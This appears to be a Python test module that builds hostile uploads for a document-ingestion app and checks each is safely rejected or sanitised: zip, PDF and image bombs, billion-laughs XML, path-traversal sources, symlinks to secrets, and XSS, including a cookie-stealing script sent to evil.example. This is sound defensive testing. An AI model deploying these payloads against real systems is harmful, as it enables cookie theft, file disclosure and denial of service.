"""Hostile input: files an attacker (or an unlucky user) could upload, each generated here, and what
each must end as. Every one must end `ready` or `failed` with a message a person can read (or be
refused at upload with one), and the worker's peak RSS stays under the limit whatever it holds."""

from __future__ import annotations

import codecs
import io
import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from reliability import bombs
from tests import formats

FIXTURES = bombs.FIXTURES
XSS = '<script>alert("xss")</script><img src=x onerror=alert("xss")>'


@dataclass(frozen=True)
class Hostile:
    """One hostile file: its name as uploaded (or as written to disk for the CLI), how to make its
    bytes, the outcomes allowed ("ready", "failed", "refused"), and whether it only makes sense
    through the CLI (symbolic links) or only through the API (a source given apart from the name)."""

    kind: str
    name: str
    make: Callable[[], bytes]
    allowed: frozenset[str]
    source: str | None = None  # the API's `source` field, when it differs from the file name
    cli_only: bool = False
    light: bool = True  # part of the quick subset (`make test`)


def _random(n: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(n)


def _docx_truncated() -> bytes:
    data = (FIXTURES / "report.docx").read_bytes()
    return data[: len(data) // 2]


def _truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _malformed_eml() -> bytes:
    """A multipart email whose closing boundary is missing, body in broken base64 and an unknown charset."""
    return (b"From: a@example.com\nSubject: Broken\nContent-Type: multipart/mixed; boundary=\"zzz\"\n\n"
            b"--zzz\nContent-Type: text/plain; charset=no-such-charset\nContent-Transfer-Encoding: base64\n\n"
            b"@@@not base64@@@\n--zzz\nContent-Type: text/html\n\n<p>Second part " + XSS.encode() + b"</p>\n")


_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
           + b"".join(b'<!ENTITY %c "%s">' % (ord("b") + i, (b"&%c;" % (ord("a") + i)) * 10) for i in range(9))
           + b']><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&j;'
           b"</office:document-content>")


def _zip_named_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "hello")
    return out.getvalue()


def _html(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head>{head}</head><body>{body}</body></html>".encode()


def _deep_html(depth: int = 100_000) -> bytes:
    return _html("<p>Shallow text that a reader sees.</p>" + "<div>" * depth + "deep" + "</div>" * depth)


def _script_html() -> bytes:
    return _html(
        '<h1>Garden <script>alert("h1")</script>notes</h1>'
        '<p>Tomatoes need sun.<script>document.location="http://evil.example/?c="+document.cookie</script></p>'
        '<iframe src="javascript:alert(1)"></iframe><a href="javascript:alert(2)">click me</a>'
        f'<p onmouseover="alert(3)">Water them daily. {XSS}</p>',
        head=f"<title>Title {XSS}</title>")


def _scanned_png() -> bytes:
    from chat.evaluation.scans import degrade, png, render_pages

    pages, _texts = render_pages(["A scanned notice: the garden gate is locked at dusk."], size=(1240, 400))
    return png(degrade(pages[0], seed=3))


KINDS: list[Hostile] = [
    Hostile("empty file", "empty.txt", lambda: b"", frozenset({"refused", "failed"})),
    Hostile("only whitespace", "blank.txt", lambda: b" \n\t \n" * 1000, frozenset({"failed"})),
    Hostile("binary as .txt", "binary.txt", lambda: _random(200_000), frozenset({"failed"})),
    Hostile("binary as .pdf", "binary.pdf", lambda: _random(200_000, 8), frozenset({"failed"})),
    Hostile("binary as .docx", "binary.docx", lambda: _random(200_000, 9), frozenset({"failed"})),
    Hostile("binary as .md", "binary.md", lambda: bytes(range(256)) * 400, frozenset({"failed"})),
    Hostile("invalid UTF-8", "invalid.txt", lambda: (FIXTURES / "not_utf8.txt").read_bytes(), frozenset({"failed"})),
    Hostile("UTF-16 with BOM", "utf16.txt", lambda: codecs.BOM_UTF16_LE + "Grüße aus Köln\n".encode("utf-16-le") * 50,
            frozenset({"ready"})),
    Hostile("UTF-16 without BOM", "utf16_nobom.txt", lambda: "Plain words here.\n".encode("utf-16-le") * 50,
            frozenset({"failed"})),
    Hostile("UTF-32 with BOM", "utf32.txt", lambda: codecs.BOM_UTF32_LE + "Hello UTF-32\n".encode("utf-32-le") * 20,
            frozenset({"ready"})),
    Hostile("Latin-1 text", "latin1.txt", lambda: "Café naïve Größe\n".encode("latin-1") * 100, frozenset({"ready"})),
    Hostile("NUL bytes in Markdown", "nul.md", lambda: b"# Title\n\nText\x00with\x00NULs\n" * 500,
            frozenset({"failed"})),
    Hostile("control characters", "controls.txt", lambda: b"text \x1b[31m red \x07 bell\x08\n" * 500,
            frozenset({"failed", "ready"})),
    Hostile("one 20 MB line", "line20mb.txt", lambda: b"x" * 20_000_000, frozenset({"failed"}), light=False),
    Hostile("one 5 MB line", "line5mb.txt", lambda: b"x" * 5_000_000, frozenset({"ready"}), light=False),
    Hostile("a 5 MB line of punctuation (5M tokens)", "commas.txt", lambda: b"a," * 2_500_000,
            frozenset({"failed"}), light=False),
    Hostile("over the upload limit", "huge.txt", lambda: b"word " * (11 * 1024 * 1024), frozenset({"refused"}),
            light=False),
    Hostile("DOCX zip bomb (1.1 GB document.xml)", "bomb.docx", lambda: bombs.docx_bomb(1_100_000_000),
            frozenset({"failed"}), light=False),
    Hostile("DOCX understating its part sizes", "lying.docx", lambda: bombs.docx_lying_sizes(200_000_000),
            frozenset({"failed"}), light=False),
    Hostile("DOCX with 4 million elements", "elements.docx", lambda: bombs.docx_many_paragraphs(4_000_000),
            frozenset({"failed"}), light=False),
    Hostile("DOCX cut in half", "truncated.docx", _docx_truncated, frozenset({"failed"})),
    Hostile("ZIP named .docx", "archive.docx", _zip_named_docx, frozenset({"failed"})),
    Hostile("XLSX zip bomb (1.1 GB sheet)", "bomb.xlsx", lambda: bombs.xlsx_bomb(1_100_000_000),
            frozenset({"failed"}), light=False),
    Hostile("XLSX spanning the whole grid (A1:XFD1048576)", "grid.xlsx", bombs.xlsx_claiming_everything,
            frozenset({"failed"})),
    Hostile("spreadsheet with a million cells", "cells.xlsx", lambda: bombs.xlsx_cells(1000, 1000),
            frozenset({"failed"}), light=False),
    Hostile("XLSX of 600,000 cells (under the markup limit)", "cells600k.xlsx", lambda: bombs.xlsx_cells(600, 1000),
            frozenset({"failed"}), light=False),
    Hostile("CSV with a million cells", "cells.csv", lambda: b"1,2,3,4,5,6,7,8,9,10\n" * 100_000,
            frozenset({"failed"}), light=False),
    Hostile("CSV with an unclosed quote", "quote.csv", lambda: b'a,b\n1,"' + b"x" * 300_000, frozenset({"failed"})),
    Hostile("binary as .xlsx", "binary.xlsx", lambda: _random(200_000, 10), frozenset({"failed"})),
    Hostile("PPTX with a huge slide (4 million elements)", "huge.pptx", lambda: bombs.pptx_huge_slide(4_000_000),
            frozenset({"failed"}), light=False),
    Hostile("PPTX cut in half", "truncated.pptx",
            lambda: _truncated(formats.pptx([("Title", "Body", "Notes")])), frozenset({"failed"})),
    Hostile("ODT declaring entities (billion laughs)", "laughs.odt", lambda: bombs.odt_with_content(_LAUGHS),
            frozenset({"failed"})),
    Hostile("EPUB with a path-traversal entry", "traversal.epub", bombs.epub_path_traversal, frozenset({"ready"})),
    Hostile("malformed EML", "broken.eml", _malformed_eml, frozenset({"ready"})),
    Hostile("EML nested 5,000 parts deep", "deep.eml", lambda: bombs.eml_nested(5_000), frozenset({"failed"})),
    Hostile("binary as .eml", "binary.eml", lambda: _random(200_000, 11), frozenset({"failed"})),
    Hostile("PDF without text", "scanned.pdf", lambda: bombs.pdf_pages([b""]), frozenset({"failed"})),
    Hostile("encrypted PDF", "encrypted.pdf", lambda: (FIXTURES / "encrypted.pdf").read_bytes(), frozenset({"failed"})),
    Hostile("truncated PDF", "truncated.pdf", lambda: (FIXTURES / "truncated.pdf").read_bytes(), frozenset({"failed"})),
    Hostile("PDF stream bomb (500 MB)", "bomb.pdf", lambda: bombs.pdf_bomb(500_000_000), frozenset({"failed"}),
            light=False),
    Hostile("PDF of 2,000 pages", "pages.pdf", lambda: bombs.pdf_text("Page text about gardens.", pages=2000),
            frozenset({"ready"}), light=False),
    Hostile("image decompression bomb (PNG claiming 60,000 × 60,000)", "bomb.png",
            lambda: bombs.png_claiming(60_000, 60_000), frozenset({"failed"})),
    Hostile("image of 12,000 × 12,000 pixels (over OCR_MAX_IMAGE_PIXELS)", "poster.png",
            lambda: bombs.png_claiming(12_000, 12_000), frozenset({"failed"})),
    Hostile("TIFF cut in half", "torn.tiff", bombs.tiff_truncated, frozenset({"failed"})),
    Hostile("a scanned page (PNG, read by OCR)", "scan.png", _scanned_png, frozenset({"ready"}), light=False),
    Hostile("scanned PDF of 1,000 pages (over OCR_MAX_PAGES)", "scans.pdf", lambda: bombs.scanned_pdf(1000),
            frozenset({"failed"}), light=False),
    Hostile("script, iframe and javascript: HTML", "script.html", _script_html, frozenset({"ready"})),
    Hostile("HTML nested 100,000 deep", "deep.html", _deep_html, frozenset({"ready"})),
    Hostile("HTML with 4 million elements", "elements.html", lambda: _html("<b></b>" * 4_000_000),
            frozenset({"failed"}), light=False),
    Hostile("HTML without visible text", "hidden.html", lambda: _html("<script>var a = 1;</script><style>p{}</style>"),
            frozenset({"failed"})),
    Hostile("HTML declaring an unknown charset", "charset.html",
            lambda: _html("<p>Caf\xe9</p>", head='<meta charset="x-no-such-charset">').replace(b"\xc3\xa9", b"\xe9"),
            frozenset({"ready"})),
    Hostile("Markdown with XSS in headings", "xss.md",
            lambda: f"---\ntitle: {XSS}\n---\n# {XSS}\n\nBody [link](javascript:alert(1)) {XSS}\n".encode(),
            frozenset({"ready"})),
    Hostile("reStructuredText of 20,000 headings", "headings.rst",
            lambda: "".join(f"Heading {i}\n{'=' * 12}\n\nText {i}.\n\n" for i in range(20_000)).encode(),
            frozenset({"ready"}), light=False),
    Hostile("a path with ../ as source", "dotdot.txt", lambda: b"A file claiming to live elsewhere.\n",
            frozenset({"ready"}), source="../../../etc/passwd.txt"),
    Hostile("control characters in the name", "ctrl\x1b[31m\x07name.txt", lambda: b"Named with controls.\n",
            frozenset({"ready"})),
    Hostile("right-to-left override in the name", "invoice\u202egpj.md", lambda: b"# Invoice\n\nNot a JPEG.\n",
            frozenset({"ready"})),
    Hostile("a 200-character non-ASCII name", "é" * 200 + ".txt", lambda: b"A long name.\n", frozenset({"ready"})),
    Hostile("unsupported type", "program.exe", lambda: b"MZ" + _random(1000), frozenset({"refused"})),
    Hostile("symbolic link to the secret key", "notes.txt", lambda: b"", frozenset({"skipped"}), cli_only=True),
    Hostile("symbolic link to /etc/passwd", "passwd.txt", lambda: b"", frozenset({"skipped"}), cli_only=True),
    Hostile("symbolic link to a folder outside", "outside", lambda: b"", frozenset({"skipped"}), cli_only=True),
]


def write_cli_folder(folder: Path, secret: Path, kinds: list[Hostile]) -> dict[str, Hostile]:
    """The kinds as files of one folder for `manage.py ingest`, symbolic links included; returns
    {source the CLI will give it: kind}."""
    folder.mkdir(parents=True, exist_ok=True)
    outside = folder.parent / f"{folder.name}-outside"
    outside.mkdir(exist_ok=True)
    (outside / "private.md").write_text("# Private\n\nOutside the folder.\n")
    sources = {}
    for kind in kinds:
        if kind.kind == "over the upload limit" or kind.name.endswith(".exe") or len(kind.name.encode()) > 255:
            continue  # the API's refusals (the CLI reports them the same way); a name no file system takes
        path = folder / kind.name
        if kind.name == "notes.txt":
            os.symlink(secret, path)
        elif kind.name == "passwd.txt":
            os.symlink("/etc/passwd", path)
        elif kind.name == "outside":
            os.symlink(outside, path, target_is_directory=True)
        else:
            path.write_bytes(kind.make())
        sources[kind.name] = kind
    return sources


# --- running them against the app ---

RSS_LIMIT = 2 * 1024 ** 3


@dataclass
class HostileResult:
    kind: str
    way: str  # "api" or "cli"
    outcome: str  # ready | failed | refused | skipped | missing | timeout
    message: str
    peak_rss: int = 0
    problem: str = ""  # why this outcome is not a safe one ("" when it is)


def multipart(fields: dict[str, str], file_field: str, filename: str, data: bytes) -> tuple[bytes, str]:
    boundary = f"----ragweb{random.getrandbits(64):016x}"
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
    quoted = filename.replace("\\", "\\\\").replace('"', '\\"')
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{quoted}"\r\n'
                 "Content-Type: application/octet-stream\r\n\r\n".encode() + data + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def upload(app, token: str, collection: str, name: str, data: bytes, *, source: str | None = None,
           timeout: float = 120):
    """POST /api/documents/ with one file: (response, document id or None, the refusal's message)."""
    fields = {"collection": collection}
    if source:
        fields["source"] = source
    body, content_type = multipart(fields, "file", name, data)
    response = app.request("POST", "/api/documents/", body=body, headers={"Content-Type": content_type},
                           token=token, timeout=timeout)
    try:
        entry = response.json()["files"][0]
    except (ValueError, KeyError, IndexError, TypeError):
        return response, None, response.body.decode(errors="replace")[:300]
    document = entry.get("document") or {}
    return response, document.get("id"), entry.get("error") or ""


def _judge(kind: Hostile, outcome: str, message: str) -> str:
    if outcome not in kind.allowed:
        return f"ended {outcome}, expected {'/'.join(sorted(kind.allowed))}"
    if outcome in ("failed", "refused") and (not message.strip() or "Traceback" in message):
        return "no readable message"
    if outcome == "failed" and message.startswith("Processing failed"):
        return f"an unexpected error: {message[:120]}"
    return ""


def run_api(app, token: str, collection: str, kinds: list[Hostile], *, timeout: float = 600) -> list[HostileResult]:
    """Upload each kind through POST /api/documents/, one at a time, and wait for its outcome while
    the worker's pool process records its peak RSS."""
    import time

    from reliability.app import peak_rss, reset_peak_rss

    results = []
    for kind in kinds:
        if kind.cli_only:
            continue
        pool = app.worker_pool()
        for process in pool:
            reset_peak_rss(process)
        response, document_id, message = upload(app, token, collection, kind.name, kind.make(), source=kind.source)
        if document_id is None:
            outcome = "refused" if response.status == 400 and response.is_json else f"HTTP {response.status}"
            results.append(HostileResult(kind.kind, "api", outcome, message, 0, _judge(kind, outcome, message)))
            continue
        deadline = time.monotonic() + timeout
        outcome, message = "timeout", ""
        while time.monotonic() < deadline:
            document = app.request("GET", f"/api/documents/{document_id}/", token=token).json()
            if document["status"] in ("ready", "failed"):
                outcome, message = document["status"], document["error"]
                break
            time.sleep(0.3)
        peak = max((peak_rss(p) for p in pool if p.is_running()), default=0)
        problem = _judge(kind, outcome, message) or _check_document(kind, document_id) or (
            f"peak RSS {peak / 1024 ** 3:.2f} GB" if peak > RSS_LIMIT else "")
        results.append(HostileResult(kind.kind, "api", outcome, message, peak, problem))
    return results


def _check_document(kind: Hostile, document_id: int) -> str:
    """What a safely stored document must look like: a clean source, a stored file inside the media
    folder, no script in the text of an HTML page."""
    from corpus.models import Document

    document = Document.objects.get(pk=document_id)
    if any(not c.isprintable() for c in document.source):
        return f"control or format characters kept in the source {document.source!r}"
    if document.file and (".." in document.file.name or document.file.name.startswith("/")):
        return f"stored outside the media folder: {document.file.name!r}"
    if document.file and len(os.path.basename(document.file.name).encode()) > 255:
        return "stored file name over 255 bytes"
    if kind.name.endswith(".epub") and ("Escaped" in document.text or "root:" in document.text):
        return "a chapter outside the book was read"
    if kind.name.endswith((".html", ".eml")) and ("<script" in document.text or "alert(" in document.text.replace(
            'alert("xss")', "")):
        return "script kept in the text of an HTML page"
    return ""


def run_cli(app, collection: str, kinds: list[Hostile], folder: Path, *, timeout: float = 1200) -> list[HostileResult]:
    """The same kinds (and symbolic links) through `manage.py ingest FOLDER --wait`."""
    from corpus.models import Document
    from reliability.app import peak_rss, reset_peak_rss

    sources = write_cli_folder(folder, app.var / "secret_key", kinds)
    pool = app.worker_pool()
    for process in pool:
        reset_peak_rss(process)
    completed = app.manage("ingest", str(folder), "--collection", collection, "--wait", "--timeout", str(timeout),
                           check=False, timeout=timeout + 60)
    peak = max((peak_rss(p) for p in pool if p.is_running()), default=0)
    output = completed.stdout + completed.stderr
    secret = (app.var / "secret_key").read_text().strip()
    leaked = Document.objects.filter(collection__slug=collection, text__contains=secret[:20]).exists() or \
        Document.objects.filter(collection__slug=collection, text__contains="root:x:0:0").exists()
    results = []
    from corpus.uploads import clean_name

    for name, kind in sources.items():
        if kind.cli_only:
            skipped = f"{folder / name}: a symbolic link, not followed" in output
            outcome = "skipped" if skipped else "followed"
            problem = "" if skipped and not leaked else "the link was followed"
            results.append(HostileResult(kind.kind, "cli", outcome, "", peak, problem))
            continue
        document = Document.objects.filter(collection__slug=collection, source=clean_name(name)).first()
        if document is None:
            refused = f"refused {name}" in output or f"refused {folder / name}" in output
            outcome = "refused" if refused else "missing"
            results.append(HostileResult(kind.kind, "cli", outcome, "", peak,
                                         "" if refused and "refused" in kind.allowed else f"no document for {name!r}"))
            continue
        problem = _judge(kind, document.status, document.error) or _check_document(kind, document.pk)
        results.append(HostileResult(kind.kind, "cli", document.status, document.error, peak, problem))
    return results
